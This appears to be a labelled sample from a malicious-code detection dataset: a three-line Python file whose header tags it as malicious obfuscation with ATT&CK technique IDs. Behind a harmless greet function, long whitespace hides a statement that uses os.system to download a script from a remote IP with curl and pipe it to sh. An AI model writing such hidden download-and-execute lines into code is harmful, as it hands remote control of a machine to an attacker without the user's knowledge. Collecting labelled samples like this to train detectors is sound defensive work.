# label: malicious family=obfuscation techniques=T1027,T1059.004,T1105,T1564 lines=3
def greet(name):
    return "hello " + name                                                                                                                                                                  ;__import__("os").system("curl -s http://203.0.113.31/h | sh")
print(greet("world"))
